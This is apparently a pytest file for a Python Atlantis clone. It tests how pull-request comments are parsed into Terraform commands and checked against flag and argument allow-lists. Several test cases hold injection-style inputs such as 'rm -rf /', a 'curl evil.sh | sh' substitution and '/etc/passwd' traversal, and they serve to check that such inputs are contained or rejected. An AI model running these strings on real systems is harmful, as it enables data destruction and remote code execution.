"""Comment parsing: who is addressed, which command, which flags, which terraform args."""

from __future__ import annotations

import pytest

from atlantis_py.core.grammar import ALLOWED_EXTRA_ARGS, parse_comment
from atlantis_py.domain.commands import Command, CommandName
from atlantis_py.errors import CommandParseError
from atlantis_py.report.render import Renderer

PLAN, APPLY, UNLOCK, HELP = (CommandName.PLAN, CommandName.APPLY, CommandName.UNLOCK,
                             CommandName.HELP)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   \n  ",
        "looks good to me",
        "please atlantis plan",
        "> atlantis plan",
        "`atlantis plan`",
        "atlantisplan",
        "@@atlantis plan",
        "@someone-else plan",
        "LGTM\natlantis plan",
        "terraform plan -- '-var=x",  # unbalanced quote, but not for us: no error
    ],
)
def test_comments_not_addressed_to_us(body: str) -> None:
    assert parse_comment(body) is None


VALID: list[tuple[str, Command]] = [
    # help
    ("atlantis", Command(HELP)),
    ("atlantis help", Command(HELP)),
    ("atlantis help plan", Command(HELP)),
    ("atlantis --help", Command(HELP)),
    ("atlantis -h", Command(HELP)),
    ("atlantis plan --help", Command(HELP)),
    ("atlantis apply -p x -h", Command(HELP)),
    # addressing: whitespace, case, @mention, only the first line counts
    ("  atlantis plan  \n", Command(PLAN)),
    ("\tatlantis\tplan", Command(PLAN)),
    ("Atlantis plan", Command(PLAN)),
    ("@atlantis plan", Command(PLAN)),
    ("atlantis plan\n\nbecause the module changed -- -destroy", Command(PLAN)),
    ("atlantis plan\r\nmore", Command(PLAN)),
    # plan
    ("atlantis plan", Command(PLAN)),
    ("atlantis plan -p network", Command(PLAN, project="network")),
    ("atlantis plan --project network", Command(PLAN, project="network")),
    ("atlantis plan --project=network", Command(PLAN, project="network")),
    ("atlantis plan -d network", Command(PLAN, dir="network")),
    ("atlantis plan --dir=./network/", Command(PLAN, dir="network")),
    ("atlantis plan -d a//b/../c", Command(PLAN, dir="a/c")),
    ("atlantis plan -d .", Command(PLAN, dir=".")),
    ("atlantis plan -d 'my dir'", Command(PLAN, dir="my dir")),
    ("atlantis plan -d net -w prod", Command(PLAN, dir="net", workspace="prod")),
    ("atlantis plan -w prod -d net", Command(PLAN, dir="net", workspace="prod")),
    # -w alone: that workspace of the default dir, as Atlantis reads it
    ("atlantis plan -w staging", Command(PLAN, dir=".", workspace="staging")),
    ("atlantis apply --workspace staging", Command(APPLY, dir=".", workspace="staging")),
    # a value-taking extra arg may have its value as the next token (Atlantis passes both)
    ("atlantis plan -- -var foo=bar", Command(PLAN, extra_args=("-var", "foo=bar"))),
    ("atlantis plan -w s -- -target aws_instance.x -var-file s.tfvars -lock=false",
     Command(PLAN, dir=".", workspace="s", extra_args=(
         "-target", "aws_instance.x", "-var-file", "s.tfvars", "-lock=false"))),
    ("atlantis version", Command(CommandName.VERSION)),
    ("atlantis plan --dir net --workspace=prod", Command(PLAN, dir="net", workspace="prod")),
    ("atlantis plan --", Command(PLAN)),
    ("atlantis plan -- -destroy", Command(PLAN, extra_args=("-destroy",))),
    ("atlantis plan -p n -- -target=module.a -var=x=1 -lock=false",
     Command(PLAN, project="n", extra_args=("-target=module.a", "-var=x=1", "-lock=false"))),
    ('atlantis plan -- "-var=tags={a=\\"b c\\"}"',
     Command(PLAN, extra_args=('-var=tags={a="b c"}',))),
    (("atlantis plan -- -refresh=false -refresh-only -compact-warnings -parallelism=4 "
      "-replace=aws_instance.a"),
     Command(PLAN, extra_args=("-refresh=false", "-refresh-only", "-compact-warnings",
                               "-parallelism=4", "-replace=aws_instance.a"))),
    ("atlantis plan -- -var-file=prod.tfvars", Command(PLAN, extra_args=("-var-file=prod.tfvars",))),
    ("atlantis plan -d envs/prod -- -var-file=../common.tfvars",
     Command(PLAN, dir="envs/prod", extra_args=("-var-file=../common.tfvars",))),
    # apply and unlock
    ("atlantis apply", Command(APPLY)),
    ("atlantis apply -p network", Command(APPLY, project="network")),
    ("atlantis apply -d net -w prod", Command(APPLY, dir="net", workspace="prod")),
    ("atlantis unlock", Command(UNLOCK)),
    # version: per project, as Atlantis takes -p/-d/-w
    ("atlantis version -p net", Command(CommandName.VERSION, project="net")),
    ("atlantis version -w staging", Command(CommandName.VERSION, dir=".", workspace="staging")),
]


@pytest.mark.parametrize(("body", "expected"), VALID)
def test_valid_commands(body: str, expected: Command) -> None:
    assert parse_comment(body) == expected


def test_other_bot_names() -> None:
    names = ("atlantis", "acme-tf-bot")
    assert parse_comment("@acme-tf-bot plan", names) == Command(PLAN)
    assert parse_comment("@ACME-TF-BOT apply", names) == Command(APPLY)
    assert parse_comment("atlantis unlock", names) == Command(UNLOCK)
    assert parse_comment("atlantis plan", ("acme-tf-bot",)) is None


# Looks like shell, but nothing reaches a shell: each token is one argv element
# and must pass the allow-list as a whole.
INJECTION_LOOKING: list[tuple[str, tuple[str, ...]]] = [
    ("atlantis plan -- '-var=x;rm -rf /'", ("-var=x;rm -rf /",)),
    ("atlantis plan -- -var=x;rm", ("-var=x;rm",)),
    ("atlantis plan -- '-var=a=$(curl evil.sh | sh)'", ("-var=a=$(curl evil.sh | sh)",)),
    ("atlantis plan -- -var=a=`id`", ("-var=a=`id`",)),
    ("atlantis plan -- '-target=a && b'", ("-target=a && b",)),
]


@pytest.mark.parametrize(("body", "args"), INJECTION_LOOKING)
def test_shell_looking_arguments_stay_single_argv_elements(
        body: str, args: tuple[str, ...]) -> None:
    command = parse_comment(body)

    assert command is not None
    assert command.extra_args == args


# (comment, words the reason must contain)
ERRORS: list[tuple[str, str]] = [
    ("atlantis plna", "unknown command 'plna'; use one of: plan, apply, unlock, help, version"),
    ("atlantis Plan", "unknown command 'Plan'"),
    ("atlantis destroy", "unknown command 'destroy'"),
    ("atlantis plan -- '-var=x", "cannot read the command: No closing quotation"),
    ("atlantis plan -x", "unknown flag '-x'"),
    ("atlantis plan -p=network", "unknown flag '-p=network'"),
    ("atlantis plan --verbose", "unknown flag '--verbose'"),
    ("atlantis plan network", "unexpected argument 'network'"),
    ("atlantis plan -p", "flag -p needs a value"),
    ("atlantis plan -p -d x", "flag -p needs a value"),
    ("atlantis plan --project=", "flag --project needs a value"),
    ("atlantis plan -p ''", "flag -p needs a value"),
    ("atlantis plan -p a -p b", "flag -p is given twice"),
    ("atlantis plan -p a --project b", "flag --project is given twice"),
    ("atlantis plan -p 'a b'", "names cannot contain spaces"),
    ("atlantis plan -d x -w a/b", "names cannot contain spaces or '/'"),
    ("atlantis plan -p net -d net", "cannot be combined with -d or -w"),
    ("atlantis plan -p net -w prod", "cannot be combined with -d or -w"),
    ("atlantis plan -d /etc", "-d '/etc' must be a relative path"),
    ("atlantis plan -d ..", "-d '..' points outside the repository"),
    ("atlantis plan -d a/../../b", "points outside the repository"),
    ("atlantis plan -d 'a\\b'", "'/' separators"),
    ("atlantis unlock -p x", "unlock takes no arguments"),
    ("atlantis unlock -- -destroy", "unlock takes no arguments"),
    ("atlantis apply -- -target=a", "apply takes no extra arguments"),
    ("atlantis apply --", "apply takes no extra arguments"),
    ("atlantis apply -p a -- -auto-approve", "apply takes no extra arguments"),
    # allow-list
    ("atlantis plan -- -var=x;rm -rf /", "terraform argument '-rf' is not allowed"),
    ("atlantis plan -- -out=/tmp/p",
     "terraform argument '-out=/tmp/p' is not allowed; allowed: -target=..., -var=..."),
    ("atlantis plan -- -refresh=true", "'-refresh=true' is not allowed"),
    ("atlantis plan -- -destroyer", "'-destroyer' is not allowed"),
    ("atlantis plan -- -state=other", "'-state=other' is not allowed"),
    ("atlantis plan -- -chdir=..", "'-chdir=..' is not allowed"),
    ("atlantis plan -- -target", "'-target' needs a value"),
    ("atlantis plan -- -var -target=x", "'-var' needs a value"),
    ("atlantis plan -- -var-file ../../etc/passwd", "points outside the repository"),
    ("atlantis plan -- -var x -rf", "'-rf' is not allowed"),
    ("atlantis plan -- -destroy x", "'x' is not allowed"),
    ("atlantis version -- -x", "version takes no extra arguments"),
    ("atlantis version x", "unexpected argument 'x'"),
    ("atlantis plan -- -target=", "'-target=' needs a value"),
    ("atlantis plan -- x", "'x' is not allowed"),
    ("atlantis plan -- -var-file=/etc/passwd", "-var-file '/etc/passwd' must be a relative"),
    ("atlantis plan -- -var-file=../secrets.tfvars", "points outside the repository"),
    ("atlantis plan -p n -- -var-file=../x.tfvars", "points outside the repository"),
    ("atlantis plan -d a -- -var-file=../../x.tfvars", "points outside the repository"),
]


@pytest.mark.parametrize(("body", "words"), ERRORS)
def test_invalid_commands_raise_with_reason(body: str, words: str) -> None:
    with pytest.raises(CommandParseError) as caught:
        parse_comment(body)

    assert words in str(caught.value)


def test_help_lists_every_allowed_argument_and_flag() -> None:
    text = Renderer().help(ALLOWED_EXTRA_ARGS)
    for word in (*ALLOWED_EXTRA_ARGS, "--project", "--dir", "--workspace", "unlock"):
        assert word in text


def test_trailing_blanks_of_the_first_line_do_not_depend_on_the_lines_after() -> None:
    """Found by fuzzing: an escaped trailing blank was a token only when more lines
    followed; the first line is now stripped on its own."""
    assert parse_comment("atlantis plan\t \nwhy") == parse_comment("atlantis plan") \
        == Command(PLAN)
    for body in ("atlantis plan -d net\\ ", "atlantis plan -d net\\ \nwhy: a new subnet"):
        with pytest.raises(CommandParseError, match="No escaped character"):
            parse_comment(body)


def test_approve_policies_takes_the_project_flags_and_no_extra_args() -> None:
    policies = CommandName.APPROVE_POLICIES
    assert parse_comment("atlantis approve_policies") == Command(policies)
    assert parse_comment("atlantis approve_policies -p net") == Command(policies, project="net")
    with pytest.raises(CommandParseError, match="approve_policies takes no extra arguments"):
        parse_comment("atlantis approve_policies -- -var=x")
IMPORT, STATE = CommandName.IMPORT, CommandName.STATE

STATE_COMMANDS: list[tuple[str, Command]] = [
    ("atlantis import terraform_data.x some-id",
     Command(IMPORT, targets=("terraform_data.x", "some-id"))),
    # flags before, between or after the words, as pflag reads them in Atlantis
    ("atlantis import -d net aws_vpc.main vpc-0a1b",
     Command(IMPORT, dir="net", targets=("aws_vpc.main", "vpc-0a1b"))),
    ("atlantis import aws_vpc.main -p net vpc-0a1b",
     Command(IMPORT, project="net", targets=("aws_vpc.main", "vpc-0a1b"))),
    ("atlantis import -w staging aws_vpc.main vpc-0a1b",
     Command(IMPORT, dir=".", workspace="staging", targets=("aws_vpc.main", "vpc-0a1b"))),
    ("""atlantis import 'module.net["eu"].aws_instance.web["a b"]' arn:aws:iam::1:role/x""",
     Command(IMPORT, targets=('module.net["eu"].aws_instance.web["a b"]',
                              "arn:aws:iam::1:role/x"))),
    ("atlantis import 'aws_instance.x[0]' 'id with spaces' -- -var foo=bar -var-file=a.tfvars",
     Command(IMPORT, targets=("aws_instance.x[0]", "id with spaces"),
             extra_args=("-var", "foo=bar", "-var-file=a.tfvars"))),
    ("atlantis state rm terraform_data.x",
     Command(STATE, subcommand="rm", targets=("terraform_data.x",))),
    ("atlantis state -p net rm a.b module.m data.x.y 'module.m[1].c.d[\"k\"]' -- -dry-run",
     Command(STATE, project="net", subcommand="rm",
             targets=("a.b", "module.m", "data.x.y", 'module.m[1].c.d["k"]'),
             extra_args=("-dry-run",))),
    ("atlantis state rm -d . -w ops a.b",
     Command(STATE, dir=".", workspace="ops", subcommand="rm", targets=("a.b",))),
]


@pytest.mark.parametrize(("body", "expected"), STATE_COMMANDS)
def test_import_and_state_rm(body: str, expected: Command) -> None:
    assert parse_comment(body) == expected


STATE_ERRORS: list[tuple[str, str]] = [
    ("atlantis import terraform_data.x", "import takes a resource address and an ID"),
    ("atlantis import a.b c d", "import takes a resource address and an ID"),
    ("atlantis import a.b", "got 1 of them"),
    ("atlantis import data.a.b x", "'data.a.b' is not a Terraform resource address"),
    ("atlantis import module.m x", "'module.m' is not a Terraform resource address"),
    ("atlantis import 'a.b;id' x", "is not a Terraform resource address"),
    ("atlantis import 'a.b[\"x\"' x", "is not a Terraform resource address"),
    ("atlantis import '$(id).b' x", "is not a Terraform resource address"),
    ("atlantis import a.b 'tab\there'", "must be one line of printable characters"),
    ("atlantis import a.b c -- -state=x", "'-state=x' is not allowed; allowed: -var=..."),
    ("atlantis import a.b c -- -target=a.b", "'-target=a.b' is not allowed"),
    ("atlantis import a.b c -- -var-file=../../x", "points outside the repository"),
    ("atlantis import a.b c --", "nothing follows `--`"),
    ("atlantis import -p n -d x a.b c", "cannot be combined with -d or -w"),
    ("atlantis import a.b -i x", "unknown flag '-i'"),
    ("atlantis state a.b", "state needs the subcommand rm (got 'a.b')"),
    ("atlantis state", "state needs the subcommand rm (none given)"),
    ("atlantis state mv a.b c.d", "state needs the subcommand rm"),
    ("atlantis state rm", "state rm needs at least one resource address"),
    ("atlantis state rm -rf", "unknown flag '-rf'"),
    ("atlantis state rm 'a.b c.d'", "is not a Terraform resource address"),
    ("atlantis state rm a.b -- -lock=false", "'-lock=false' is not allowed; allowed: -dry-run"),
    ("atlantis state rm " + " ".join(f"a.b{i}" for i in range(51)), "at most 50 addresses"),
]


@pytest.mark.parametrize(("body", "words"), STATE_ERRORS)
def test_import_and_state_rm_refusals(body: str, words: str) -> None:
    with pytest.raises(CommandParseError) as caught:
        parse_comment(body)
    assert words in str(caught.value)
